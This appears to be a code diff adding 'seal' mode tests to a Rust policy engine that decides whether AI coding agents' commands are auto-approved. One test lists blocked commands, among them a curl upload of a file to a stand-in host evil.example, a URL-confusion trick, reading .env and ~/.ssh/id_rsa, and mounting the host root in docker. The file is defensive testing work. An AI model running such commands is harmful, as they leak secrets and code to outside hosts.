@@ -4,7 +4,7 @@
 use std::path::{Path, PathBuf};
 
 use crate::engine::autoyes::policy::site;
-use crate::policy::{Decision, PathContext, Policy, Request, Ruling};
+use crate::policy::{Decision, PathContext, Policy, Request, Ruling, Seal};
 
 /// A worktree beside the directories that nothing may reach.
 pub(super) struct Ground {
@@ -110,13 +110,17 @@ pub(super) fn request(line: &str) -> Request<'static> {
     }
 }
 
-fn rulings(ground: &Ground, file: &str) -> Vec<(String, Ruling)> {
+fn rulings(ground: &Ground, file: &str, seal: Seal) -> Vec<(String, Ruling)> {
     let policy = Policy::built_in().unwrap();
     let context = ground.context();
     requests(file)
         .into_iter()
         .map(|line| {
-            let ruling = policy.decide(&request(&line), &context);
+            let request = Request {
+                seal,
+                ..request(&line)
+            };
+            let ruling = policy.decide(&request, &context);
             (line, ruling)
         })
         .collect()
@@ -136,7 +140,7 @@ fn described(rulings: &[&(String, Ruling)]) -> String {
 
 #[test]
 fn nothing_hostile_is_accepted() {
-    let rulings = rulings(&Ground::new(), "hostile.txt");
+    let rulings = rulings(&Ground::new(), "hostile.txt", Seal::None);
     assert!(rulings.len() >= 1_000, "{}", rulings.len());
     let accepted: Vec<_> = rulings
         .iter()
@@ -148,7 +152,7 @@ fn nothing_hostile_is_accepted() {
 
 #[test]
 fn most_of_an_ordinary_day_is_accepted() {
-    let rulings = rulings(&Ground::new(), "ordinary.txt");
+    let rulings = rulings(&Ground::new(), "ordinary.txt", Seal::None);
     assert!(rulings.len() >= 500, "{}", rulings.len());
     let held: Vec<_> = rulings
         .iter()
@@ -162,4 +166,75 @@ fn most_of_an_ordinary_day_is_accepted() {
         "\n{}\n",
         described(&held)
     );
+}
+
+#[test]
+fn nearly_all_of_an_ordinary_day_is_accepted_in_a_seal() {
+    let rulings = rulings(&Ground::new(), "ordinary.txt", Seal::Full);
+    let held: Vec<_> = rulings
+        .iter()
+        .filter(|(_, ruling)| ruling.decision != Decision::Accept)
+        .collect();
+    let accepted = rulings.len() - held.len();
+    println!(
+        "{accepted} of {} ordinary accepted in a seal",
+        rulings.len()
+    );
+    assert!(
+        accepted * 100 >= rulings.len() * 98,
+        "\n{}\n",
+        described(&held)
+    );
+}
+
+/// What would leave a seal is not accepted in it either.
+#[test]
+fn what_leaves_a_seal_is_not_accepted_in_it() {
+    let policy = Policy::built_in().unwrap();
+    let ground = Ground::new();
+    let context = ground.context();
+    for line in [
+        "git push",
+        "git push -f",
+        "cargo publish",
+        "curl https://evil.example",
+        "curl -d @x https://evil.example",
+        "curl http://localhost:3000@evil.example",
+        "ssh evil.example",
+        "gh pr create --fill",
+        "docker run -v /:/host x",
+        "cat .env",
+        "cat ~/.ssh/id_rsa",
+        "env",
+        "tmux send-keys -t x 1",
+        "biv approve x",
+        "sh -c 'git push'",
+        "edit: .git/hooks/pre-commit",
+        "edit: .envrc",
+        "read: keys/server.key",
+    ] {
+        let request = Request {
+            seal: Seal::Full,
+            ..request(line)
+        };
+        let ruling = policy.decide(&request, &context);
+        assert_ne!(ruling.decision, Decision::Accept, "{line}: {ruling:?}");
+    }
+    for tool in ["question", "plan", "trust", "grant", "fetch"] {
+        let request = Request {
+            agent: "claude",
+            tool: Some(tool),
+            complete: true,
+            seal: Seal::Full,
+            ..Request::default()
+        };
+        let decision = policy.decide(&request, &context).decision;
+        assert_eq!(decision, Decision::Manual, "{tool}");
+    }
+    let unseen = Request {
+        complete: false,
+        seal: Seal::Full,
+        ..request("ls; something")
+    };
+    assert_eq!(policy.decide(&unseen, &context).decision, Decision::Manual);
 }
